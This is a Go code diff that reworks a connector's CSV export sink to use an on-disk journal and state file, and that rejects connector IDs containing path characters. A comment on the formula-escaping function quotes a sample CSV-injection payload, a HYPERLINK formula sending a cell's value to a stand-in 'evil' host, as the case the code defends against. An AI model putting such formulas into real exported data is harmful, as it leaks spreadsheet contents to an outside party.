@@ -2,30 +2,40 @@ package sink
 
 import (
 	"context"
-	"encoding/csv"
 	"encoding/json"
 	"fmt"
+	"io"
 	"os"
 	"path/filepath"
-	"slices"
+	"strconv"
 	"strings"
+	"sync"
 
 	"neurons-connector/fault"
 	"neurons-connector/internal/private"
 	"neurons-connector/store"
 )
 
-// CSV is the CSV drop (neurons-ingestion.md §5): it keeps each connector's
-// current users in the store and, at the end of every run (its final batch),
-// writes them all to <Dir>/<connector name>-users.csv through a temporary
-// file and a rename, so an importer never reads half a file.
+// CSV is the CSV drop (neurons-ingestion.md §5): at the end of every run
+// (its final batch) it writes each connector's current users to
+// <Dir>/<connector name>-users.csv through a temporary file and a rename,
+// so an importer never reads half a file.
 //
-// Applying a batch sets or removes records by source ID, so applying the
-// same batch again after a crash changes nothing: the outbox's at-least-once
-// delivery is exactly-once here too.
+// It keeps, in State (a private folder of the data directory), each
+// connector's current users as the CSV itself plus a small trailer, and a
+// journal of the run's batches (csvjournal.go); the final batch merges the
+// journal into the state as a stream (csvmerge.go) and copies the state to
+// the drop. Memory stays flat whatever the tenant's size, and a run that
+// changed nothing costs a file copy. Folding a batch in again after a crash
+// changes nothing, so the outbox's at-least-once delivery is exactly-once
+// here too.
 type CSV struct {
-	DB  *store.DB
-	Dir string
+	Dir   string    // where the drops go
+	State string    // the private folder of the states and journals
+	DB    *store.DB // only to move the users versions before 2.4 kept in the database
+
+	mu       sync.Mutex
+	journals map[string]*journal // by connector ID, read once per process
 }
 
 // Push implements Sink.
@@ -34,31 +44,41 @@ func (c *CSV) Push(_ context.Context, key string, p Payload) error {
 	if err != nil {
 		return &Error{Class: fault.ErrRejected, Message: "CSV drop: " + err.Error(), err: err}
 	}
-	b, err := Parse(key, body)
+	b, err := parseCSVBatch(key, body)
 	if err != nil {
 		return &Error{Class: fault.ErrRejected, Message: "CSV drop: " + err.Error(), err: err}
 	}
-	err = c.DB.Update(func(tx *store.Tx) error {
-		for _, u := range b.Upserts {
-			if err := tx.PutSinkRecord(b.Connector.ID, u.SourceID, u.Attributes); err != nil {
-				return err
-			}
-		}
-		for _, d := range b.Deletes {
-			if err := tx.DeleteSinkRecord(b.Connector.ID, d.SourceID); err != nil {
-				return err
-			}
-		}
-		return nil
-	})
+	if b.Connector.ID == "" || strings.ContainsAny(b.Connector.ID, `/\.:`) {
+		err := fmt.Errorf("batch %s: connector ID %q", key, b.Connector.ID)
+		return &Error{Class: fault.ErrRejected, Message: "CSV drop: " + err.Error(), err: err}
+	}
+	transient := func(what string, err error) error {
+		return &Error{Class: fault.ErrTransient, Message: "CSV drop: " + what + ": " + err.Error(), err: err}
+	}
+	j, err := c.journal(b.Connector.ID)
 	if err != nil {
-		return &Error{Class: fault.ErrTransient, Message: "CSV drop: store the batch: " + err.Error(), err: err}
+		return transient("open the journal", err)
+	}
+	if !j.keys[key] {
+		seg, err := encodeSegment(key, b)
+		if err != nil {
+			return &Error{Class: fault.ErrRejected, Message: "CSV drop: " + err.Error(), err: err}
+		}
+		if err := j.add(seg); err != nil {
+			return transient("keep the batch", err)
+		}
 	}
 	if !b.Info.Final {
 		return nil
 	}
+	if err := mergeState(c.statePath(b.Connector.ID), j); err != nil {
+		return transient("merge the run's changes", err)
+	}
 	if err := c.write(b.Connector); err != nil {
-		return &Error{Class: fault.ErrTransient, Message: "CSV drop: " + err.Error(), err: err}
+		return transient("write the drop", err)
+	}
+	if err := j.reset(); err != nil {
+		return transient("clear the journal", err)
 	}
 	return nil
 }
@@ -68,9 +88,38 @@ func (c *CSV) FileName(connectorName string) string {
 	return filepath.Join(c.Dir, connectorName+"-users.csv")
 }
 
-// write renders every record of the connector: a header of SourceID and
-// the target attributes any user has, then one row per user; list values
-// are joined with "; ".
+func (c *CSV) statePath(connID string) string { return filepath.Join(c.State, connID+".csv") }
+
+// journal returns the connector's journal, reading it (and moving the
+// users an older version kept in the database into it) on first use.
+func (c *CSV) journal(connID string) (*journal, error) {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	if j := c.journals[connID]; j != nil {
+		return j, nil
+	}
+	if err := os.MkdirAll(c.State, 0o700); err != nil {
+		return nil, err
+	}
+	if err := private.Inherit(c.State); err != nil {
+		return nil, err
+	}
+	j, err := openJournal(filepath.Join(c.State, connID+".journal"))
+	if err != nil {
+		return nil, err
+	}
+	if err := c.moveLegacy(connID, j); err != nil {
+		return nil, err
+	}
+	if c.journals == nil {
+		c.journals = map[string]*journal{}
+	}
+	c.journals[connID] = j
+	return j, nil
+}
+
+// write copies the state's CSV to the drop (a header alone when the
+// connector has no users).
 func (c *CSV) write(conn Connector) error {
 	if err := os.MkdirAll(c.Dir, 0o750); err != nil {
 		return err
@@ -78,56 +127,21 @@ func (c *CSV) write(conn Connector) error {
 	if err := private.Inherit(c.Dir); err != nil {
 		return err
 	}
-	var columns []string
-	seen := map[string]bool{}
-	err := c.DB.View(func(tx *store.Tx) error {
-		return tx.ForEachSinkRecord(conn.ID, func(_ string, attrs []byte) error {
-			var m map[string]json.RawMessage
-			if err := json.Unmarshal(attrs, &m); err != nil {
-				return err
-			}
-			for k := range m {
-				if !seen[k] {
-					seen[k] = true
-					columns = append(columns, k)
-				}
-			}
-			return nil
-		})
-	})
+	st, err := openState(c.statePath(conn.ID))
 	if err != nil {
-		return fmt.Errorf("read records: %w", err)
+		return err
 	}
-	slices.Sort(columns)
+	defer st.close()
 	path := c.FileName(conn.Name)
 	tmp, err := os.CreateTemp(c.Dir, "."+filepath.Base(path)+".*")
 	if err != nil {
 		return err
 	}
 	defer func() { _ = os.Remove(tmp.Name()) }() // after the rename there is nothing left to remove
-	w := csv.NewWriter(tmp)
-	header := []string{"SourceID"}
-	for _, col := range columns {
-		header = append(header, safeCell(col))
-	}
-	_ = w.Write(header)
-	err = c.DB.View(func(tx *store.Tx) error {
-		row := make([]string, len(columns)+1)
-		return tx.ForEachSinkRecord(conn.ID, func(id string, attrs []byte) error {
-			var m map[string]any
-			if err := json.Unmarshal(attrs, &m); err != nil {
-				return err
-			}
-			row[0] = safeCell(id)
-			for i, col := range columns {
-				row[i+1] = safeCell(cell(m[col]))
-			}
-			return w.Write(row)
-		})
-	})
-	w.Flush()
-	if err == nil {
-		err = w.Error()
+	if st == nil {
+		_, err = tmp.WriteString("SourceID\n")
+	} else {
+		_, err = io.Copy(tmp, io.NewSectionReader(st.f, 0, st.length))
 	}
 	if err == nil {
 		err = tmp.Chmod(0o640)
@@ -153,10 +167,15 @@ func (c *CSV) write(conn Connector) error {
 // read as "text" and do not show. A title such as
 // =HYPERLINK("http://evil/?x="&A1,"Click") stays a title.
 func safeCell(s string) string {
-	if s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0 {
+	if formula([]byte(s)) {
 		return "'" + s
 	}
 	return s
+}
+
+// formula says whether a cell would be read as a formula (see safeCell).
+func formula(b []byte) bool {
+	return len(b) > 0 && strings.IndexByte("=+-@\t\r", b[0]) >= 0
 }
 
 func cell(v any) string {
@@ -165,6 +184,10 @@ func cell(v any) string {
 		return ""
 	case string:
 		return x
+	case json.Number: // a number as sent (UseNumber)
+		return string(x)
+	case bool:
+		return strconv.FormatBool(x)
 	case []any:
 		parts := make([]string, 0, len(x))
 		for _, e := range x {
@@ -172,6 +195,6 @@ func cell(v any) string {
 		}
 		return strings.Join(parts, "; ")
 	}
-	b, _ := json.Marshal(v)
+	b, _ := json.Marshal(v) // an object: its JSON
 	return string(b)
 }
